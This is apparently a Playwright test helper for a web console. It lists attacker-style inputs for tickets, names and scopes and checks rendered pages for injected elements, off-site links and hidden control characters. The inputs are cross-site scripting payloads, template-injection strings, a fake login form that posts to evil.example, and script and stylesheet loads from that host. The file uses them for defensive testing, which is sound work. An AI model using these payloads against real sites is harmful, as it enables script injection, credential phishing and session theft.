/** Texts that attackers write into tickets, names and scopes, and what a page shows for it where they have their way. */
import type { Page } from 'playwright-core'
import { type Looked, overflow } from './browser.js'

/** By what is tried. */
export const hostile: Readonly<Record<string, string>> = {
  'a script': '<script>pwned(1)</script><script src=https://evil.example/x.js></script>',
  'a handler after a double quote': '"><img src=x onerror=pwned(1)><b onmouseover="pwned(1)">',
  'a handler after a single quote': "' autofocus onfocus=pwned(1) tabindex=1 style='position:fixed;inset:0' x='",
  'an address that is script': 'javascript:pwned(1)//',
  'the end of what stands around it':
    '</textarea></title></option></select></pre></svg></style></script>--><svg/onload=pwned(1)>',
  'elements that load':
    '<link rel=stylesheet href=//evil.example/x.css><iframe srcdoc="<script>parent.pwned(1)</script>">',
  'elements that lead away':
    '<meta http-equiv=refresh content="0;url=https://evil.example"><base href=//evil.example/>',
  'a form of its own': '</form><form action=https://evil.example method=post><input name=csrf><button autofocus>Log in',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what an attacker would try
  'template text': '{{constructor.constructor("pwned(1)")()}}${pwned(1)}<%= pwned(1) %>#{pwned(1)}',
  'references of characters': '&lt;script&gt;pwned(1)&lt;/script&gt;&#x3c;script&#x3e;pwned(1)',
  'Markdown and Slack links': '[x](javascript:pwned(1)) <https://evil.example|x> ![](https://evil.example/x.png)',
  'bidirectional controls': '\u202egnp.exe\u2066 \u2067evil\u2069 \u200f\u061c\u{e0041}\u200b',
  'controls of a terminal': '\u001b[31mred\u0007\u0000\u009b2J\u2028\u2029',
  'one long word': 'a'.repeat(3_000),
  'wide letters in one word': '﷽'.repeat(400),
  'marks piled up': 'Z\u0300\u0301\u0302\u0303\u0304\u0305'.repeat(100),
  'members of every object': '__proto__',
}

/** What a page of ours never holds, read from the elements that the browser made of it. */
export const oddities = (page: Page): Promise<string[]> =>
  page.evaluate<string[]>(`(() => {
    const all = [...document.querySelectorAll('*')]
    const odd = []
    for (const element of all) {
      const name = element.localName
      if (['iframe', 'object', 'embed', 'base', 'style', 'img', 'video', 'audio', 'template'].includes(name)) odd.push('a ' + name)
      if (name === 'script' && element.getAttribute('src') !== '/assets/console.js') odd.push('a script')
      if (name === 'link' && !/^\\/assets\\//.test(element.getAttribute('href'))) odd.push('a link elsewhere')
      if (name === 'meta' && element.hasAttribute('http-equiv')) odd.push('a meta that acts')
      for (const { name: attribute, value } of element.attributes) {
        if (/^on/i.test(attribute) || attribute === 'style' || attribute === 'srcdoc') odd.push(name + ' with ' + attribute)
        if (['href', 'src', 'action', 'formaction', 'xlink:href'].includes(attribute)) {
          const url = new URL(value, location.href)
          const isOwn = url.origin === location.origin || url.origin === 'http://127.0.0.1:3000'
          if (!isOwn || !/^https?:$/.test(url.protocol)) odd.push(name + ' leads to ' + url.href.slice(0, 80))
        }
      }
    }
    // What a person types keeps what it is; what is shown holds nothing unseen.
    const texts = document.createTreeWalker(document, NodeFilter.SHOW_TEXT)
    for (let node = texts.nextNode(); node !== null; node = texts.nextNode()) {
      const where = node.parentElement?.localName + ' in ' + (node.parentElement?.closest('[id], form, header, [class]')?.outerHTML.slice(0, 60))
      if (node.parentElement?.localName === 'textarea') continue
      if (/[\\u202a-\\u202e\\u2066-\\u2069\\u200b-\\u200f\\u061c\\u{e0000}-\\u{e007f}]/u.test(node.data)) odd.push('unseen characters: ' + where)
      if (/[\\u0000-\\u0008\\u000b-\\u001f\\u007f-\\u009f]/.test(node.data)) odd.push('controls: ' + where)
    }
    return odd
  })()`)

/** All that is wrong with one page, in lines. */
export async function faultsOf({ page, misdeeds, forget }: Looked, url: string): Promise<string[]> {
  forget()
  await page.goto(url)
  await page.evaluate('for (const one of document.querySelectorAll("details")) one.open = true')
  const odd = await oddities(page)
  const wider = await overflow(page)
  const { ran, left, reports, errors } = misdeeds
  return [
    ...odd,
    ...(wider === 0 ? [] : [`${wider} pixels wider than a phone`]),
    ...[...ran, ...left, ...reports, ...errors].map((misdeed) => `misdeed: ${misdeed}`),
    ...(page.url() === url ? [] : [`led away to ${page.url()}`]),
  ]
}
